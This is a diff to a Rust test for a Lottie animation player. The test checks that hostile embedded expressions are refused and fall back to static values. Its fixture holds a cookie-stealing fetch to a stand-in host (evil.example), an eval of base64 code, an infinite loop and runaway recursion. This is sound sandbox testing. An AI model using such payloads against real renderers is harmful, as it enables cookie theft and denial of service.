@@ -160,27 +160,47 @@ fn a_billion_frames_and_huge_numbers_draw_within_the_budget() {
 }
 
 #[test]
-fn expressions_are_reported_never_run() {
-    // lottie-web would eval these; the player draws the static value and
-    // the compatibility report lists the expression.
+fn hostile_expressions_reach_nothing_and_fall_back() {
+    // lottie-web would eval these. The engine has no `fetch`, `document`,
+    // `window` or `eval`, and aborts loops and recursion past its budget:
+    // each property is drawn without its expression, and the report says
+    // why. Two layers whose positions read each other stop at the cycle.
     let json = r#"{"w":100,"h":100,"fr":30,"ip":0,"op":10,"layers":[
         {"ty":4,"nm":"Trap","ip":0,"op":10,"st":0,
          "ks":{"p":{"k":[50,50],"x":"fetch('https://evil.example/?'+document.cookie); [0,0]"},
-               "o":{"k":100,"x":"eval(atob('YWxlcnQoMSk=')); 100"}},
-         "shapes":[{"ty":"rc","p":{"k":[0,0]},"s":{"k":[10,10]},"r":{"k":0}},{"ty":"fl","c":{"k":[1,0,0,1]},"o":{"k":100}}]}]}"#;
+               "o":{"k":100,"x":"eval(atob('YWxlcnQoMSk=')); 100"},
+               "r":{"k":0,"x":"var i = 0; while (true) { i++; } i"},
+               "s":{"k":[100,100],"x":"function f(n) { return f(n + 1); } f(0)"}},
+         "shapes":[{"ty":"rc","p":{"k":[0,0]},"s":{"k":[10,10]},"r":{"k":0}},{"ty":"fl","c":{"k":[1,0,0,1]},"o":{"k":100}}]},
+        {"ty":3,"nm":"A","ip":0,"op":10,"st":0,"ks":{"p":{"k":[1,1],"x":"thisComp.layer('B').transform.position"}}},
+        {"ty":3,"nm":"B","ip":0,"op":10,"st":0,"ks":{"p":{"k":[2,2],"x":"thisComp.layer('A').transform.position"}}}]}"#;
     let comp = Composition::from_json(json).unwrap();
-    assert!(comp.warnings.iter().any(|w| w.code == "expression"));
+    let start = Instant::now();
     let list = evaluate(&comp, 0.0, &Overrides::default(), Affine::IDENTITY);
+    assert!(start.elapsed() < Duration::from_secs(10));
     let DisplayItem::Fill { transform, .. } = &list.items[0] else {
         panic!("{:?}", list.items)
     };
-    // The static position (50, 50), as written in `k`.
-    assert_eq!(
-        transform.apply(player::geometry::Vec2::new(0.0, 0.0)),
-        player::geometry::Vec2::new(50.0, 50.0)
-    );
+    // The static position (50, 50), as written in `k`, unrotated, unscaled.
+    assert_eq!(transform.0, [1.0, 0.0, 0.0, 1.0, 50.0, 50.0]);
     let report = player::report::Report::of(json);
-    assert_eq!(report.expressions.len(), 2);
+    assert_eq!(report.expressions.len(), 6);
+    let why = |property: &str| {
+        report
+            .expressions
+            .iter()
+            .find(|e| e.layer == "Trap" && e.property == property)
+            .and_then(|e| e.falls_back.clone())
+            .unwrap_or_default()
+    };
+    assert!(
+        why("ks.p").contains("`fetch` is not supported"),
+        "{}",
+        why("ks.p")
+    );
+    assert!(why("ks.o").contains("Eval"), "{}", why("ks.o"));
+    assert!(why("ks.r").contains("out of steps"), "{}", why("ks.r"));
+    assert!(why("ks.s").contains("TooDeep"), "{}", why("ks.s"));
 }
 
 /// Random edits of the demo animations: a span replaced by random text, a
